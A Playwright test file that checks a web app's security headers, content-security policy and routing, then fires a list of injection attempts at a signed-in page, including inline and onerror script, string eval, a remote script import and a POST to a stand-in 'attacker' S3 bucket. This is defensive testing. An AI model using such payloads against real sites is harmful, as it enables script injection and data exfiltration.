import { readFileSync } from 'node:fs'
import { inlineHashesOf } from '../../aws/cli/hosting/inlineHashesOf.ts'
import { overPlainHttp } from '../../aws/cli/hosting/overPlainHttp.ts'
import { readHosting } from '../../aws/cli/hosting/readHosting.ts'
import { readTemplate } from '../../aws/template/readTemplate.ts'
import { expectAgents, signIn } from './signIn.ts'
import { expect, test } from './test.ts'

test('every page comes under the headers of the template, letter for letter', async ({ page, request }) => {
  const template = readTemplate(readFileSync('aws/template.yaml', 'utf8'))
  const { scripts, styles } = inlineHashesOf(await (await request.get('/')).text())
  expect([scripts, styles]).toEqual([[expect.any(String)], [expect.any(String)]])
  const { headers, removed } = readHosting(template, 'eu-central-1', {
    ScriptHashes: scripts.join(' '),
    StyleHashes: styles.join(' '),
  })
  expect(removed).toEqual(['server'])
  for (const path of ['/', '/agents', '/agents/Glacier%20Owl', '/favicon.svg', '/assets/missing.js']) {
    const answered = (await request.get(path)).headers()
    expect(answered, path).toMatchObject(overPlainHttp(headers))
    for (const name of removed) expect(answered, path).not.toHaveProperty(name)
  }
  expect(headers['content-security-policy']).toContain(
    "connect-src 'self' https://cognito-idp.eu-central-1.amazonaws.com https://cognito-identity.eu-central-1.amazonaws.com https://dynamodb.eu-central-1.amazonaws.com;",
  )
  expect(headers['content-security-policy']).not.toMatch(/\*|unsafe/)
  await page.goto('/')
})

test('a page of the app answers every address of the app, and nothing answers for a missing file', async ({
  request,
}) => {
  const kindOf = async (path: string) => {
    const response = await request.get(path)
    return `${response.status()} ${response.headers()['content-type']} ${response.headers()['cache-control']}`
  }
  const html = '200 text/html; charset=utf-8 no-store'
  expect(await kindOf('/')).toBe(html)
  expect(await kindOf('/agents/Glacier%20Owl?from=list')).toBe(html)
  expect(await kindOf('/agents/J.%20Doe')).toBe(html)
  expect(await kindOf('/config.json')).toBe('200 application/json no-store')
  expect(await kindOf('/favicon.svg')).toBe('200 image/svg+xml public, max-age=3600')
  const [script = ''] = /\/assets\/[^"]+\.js/.exec(await (await request.get('/')).text()) ?? []
  expect(await kindOf(script)).toBe('200 text/javascript; charset=utf-8 public, max-age=31536000, immutable')
  expect(await kindOf('/assets/missing.js')).toBe('404 text/plain no-store')
  expect(await kindOf('/missing.css')).toBe('404 text/plain no-store')
})

const injections: [what: string, run: () => unknown][] = [
  [
    'an inline script',
    () => {
      const script = document.createElement('script')
      script.textContent = 'window.injected = true'
      document.body.append(script)
    },
  ],
  [
    'an attribute that runs',
    () => {
      document.body.innerHTML += '<img src="data:," onerror="window.injected = true">'
    },
  ],
  ['text that is evaluated', () => globalThis.setTimeout('window.injected = true', 0)],
  ['a script from elsewhere', () => import('https://example.com/injected.js' as string)],
  [
    "somebody else's bucket",
    () => fetch('https://attacker.s3.eu-central-1.amazonaws.com/', { method: 'POST' }),
  ],
  ['another Region', () => fetch('https://dynamodb.us-east-1.amazonaws.com/', { method: 'POST' })],
  [
    'a frame',
    () => {
      const frame = document.createElement('iframe')
      frame.src = 'https://example.com/'
      document.body.append(frame)
    },
  ],
  [
    'a base for every address',
    () => {
      const base = document.createElement('base')
      base.href = 'https://example.com/'
      document.head.append(base)
    },
  ],
]

test('an injected script or element in a page with agents gets nowhere, and is noticed', async ({
  page,
  violations,
}) => {
  await signIn(page, 'office-north')
  await expectAgents(page)
  expect(violations).toEqual([])
  for (const [what, run] of injections) {
    await page.evaluate(run).catch(() => {})
    await expect.poll(() => violations.length, what).toBeGreaterThan(0)
    expect(await page.evaluate(() => 'injected' in window), what).toBe(false)
    violations.length = 0
  }
})
